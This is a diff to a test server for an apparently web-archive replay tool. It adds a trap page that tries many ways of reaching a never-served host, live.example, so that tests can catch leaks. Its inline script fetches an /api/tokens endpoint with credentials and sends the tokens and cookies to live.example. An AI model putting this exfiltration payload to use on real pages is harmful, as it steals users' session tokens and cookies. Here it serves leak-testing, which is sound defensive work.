@@ -54,6 +54,36 @@ HOSTILE_PAGE = (
 )
 
 
+# A page that tries every way out a replay must close: scripts, handlers, a meta refresh, CSS and
+# image URLs on another site, a form and a javascript: link. live.example is never served: any
+# request for it is a leak (tests/browser/test_replay.py records them).
+REPLAY_TRAP_PAGE = b"""<!DOCTYPE html>
+<html lang="en"><head><meta charset="utf-8"><title>Quiet page</title>
+<meta http-equiv="refresh" content="0;url=http://live.example/">
+<link rel="stylesheet" href="/static/site.css">
+<link rel="preload" as="image" href="http://live.example/preload.png">
+<style>@import url("http://live.example/import.css");
+body { background: url(http://live.example/bg.png); } h1 { color: rgb(0, 0, 128); }</style>
+<script>
+document.title = "script ran";
+document.documentElement.setAttribute("data-ran", "yes");
+console.log("archived script ran");
+fetch("/api/tokens", {credentials: "include"})
+  .then(function (r) { return r.text(); })
+  .then(function (t) { new Image().src = "http://live.example/leak?" + encodeURIComponent(t + document.cookie); });
+</script></head>
+<body>
+<article><h1 id="headline">The blogger's last post</h1>
+<p id="marker" style="background-image: url('http://live.example/inline.png')">Nothing ran here.</p>
+<img src="x" alt="broken" onerror="document.getElementById('marker').textContent = 'handler ran'; console.log('handler ran')">
+<img src="http://live.example/x.png" alt="live image">
+<img id="photo" src="/static/photo.png" srcset="http://live.example/photo-2x.png 2x" alt="A protest">
+<form action="http://live.example/" method="post"><input name="q" value="secret"><button id="send">Send</button></form>
+<p><a id="jslink" href="javascript:document.title='link ran'">run</a>
+<a id="live" href="http://live.example/more">more</a></p>
+</article></body></html>"""
+
+
 def seed_names() -> list[str]:
     """The seed article names (file stems); fails loudly when ../shared/seeds is missing."""
     names = sorted(p.stem for p in SEEDS_DIR.glob("*.txt"))
@@ -177,6 +207,8 @@ class _Handler(BaseHTTPRequestHandler):
             return self._send(200, bytes(range(256)) * 64, "application/octet-stream")
         if path == "/hostile.html":
             return self._send(200, HOSTILE_PAGE)
+        if path == "/replay/trap.html":
+            return self._send(200, REPLAY_TRAP_PAGE)
         if path == "/empty.html":
             return self._send(200, b"<html><head><title>Nothing</title></head><body></body></html>")
         if path == "/plain.txt":
